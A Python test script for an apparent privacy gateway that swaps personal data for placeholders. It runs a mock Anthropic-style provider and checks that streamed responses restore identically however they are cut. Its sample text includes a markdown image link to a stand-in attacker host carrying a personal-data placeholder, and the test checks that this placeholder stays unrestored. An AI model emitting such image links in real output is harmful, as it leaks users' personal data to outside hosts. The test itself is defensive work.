"""Runs a provider for a gateway that is running, cuts its streams as `chunk-invariance` chooses, and prints the number
of cuts."""

import json
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import anthropic
from chunk_invariance import assert_chunk_invariant

SETUP = json.load(open(os.environ["VEIL_SDK_SETUP"], encoding="utf-8"))
TEXT = "Dear [PERSON_1] \U0001f642, [EMAIL_1]: [IBAN_1]; ![x](https://evil.example/[PERSON_1])"
CHUNKS = [TEXT]


class Provider(BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
        send = self.stream if asked.get("stream") else self.whole
        send({"id": "msg_1", "type": "message", "role": "assistant", "model": asked["model"]})

    def whole(self, message):
        usage = {"input_tokens": 1, "output_tokens": 1}
        content = [{"type": "text", "text": "".join(CHUNKS)}]
        end = {"stop_reason": "end_turn", "stop_sequence": None, "usage": usage}
        self.answer("application/json", json.dumps({**message, "content": content, **end}))

    def stream(self, message):
        block = {"index": 0, "content_block": {"type": "text", "text": ""}}
        usage = {"input_tokens": 1, "output_tokens": 1}
        start = {**message, "content": [], "stop_reason": None, "stop_sequence": None}
        deltas = [
            {"index": 0, "delta": {"type": "text_delta", "text": chunk}} for chunk in CHUNKS
        ]
        end = {"delta": {"stop_reason": "end_turn", "stop_sequence": None}, "usage": usage}
        events = [
            ("message_start", {"message": {**start, "usage": usage}}),
            ("content_block_start", block),
            *[("content_block_delta", delta) for delta in deltas],
            ("content_block_stop", {"index": 0}),
            ("message_delta", end),
            ("message_stop", {}),
        ]
        lines = [f"event: {name}\ndata: {json.dumps({'type': name, **data})}\n\n" for name, data in events]
        self.answer("text/event-stream", "".join(lines))

    def answer(self, kind, text):
        body = text.encode()
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


CLIENT = anthropic.Anthropic(
    api_key=SETUP["api_key"],
    base_url=SETUP["url"],
    default_headers={"X-Upstream-Key": SETUP["upstream_key"], "X-Veil-Relink": "true"},
)
ASKED = {
    "model": "m",
    "max_tokens": 100,
    "messages": [{"role": "user", "content": SETUP["letter"]}],
}


def streamed(chunks):
    CHUNKS[:] = list(chunks)
    with CLIENT.messages.stream(**ASKED) as stream:
        yield from stream.text_stream


def in_one(text):
    """Returns the text that the gateway restores from a single event; every cut must restore to the same."""
    return "".join(streamed([text]))


server = ThreadingHTTPServer(("127.0.0.1", SETUP["provider_port"]), Provider)
threading.Thread(target=server.serve_forever, daemon=True).start()
restored = in_one(TEXT)
for value in SETUP["values"]:
    assert value in restored, f"{value!r} is not in {restored!r}"
assert "evil.example/[PERSON_1]" in restored, restored
tried = assert_chunk_invariant(streamed, in_one, TEXT)
print(json.dumps({"tried": tried, "length": len(TEXT)}))
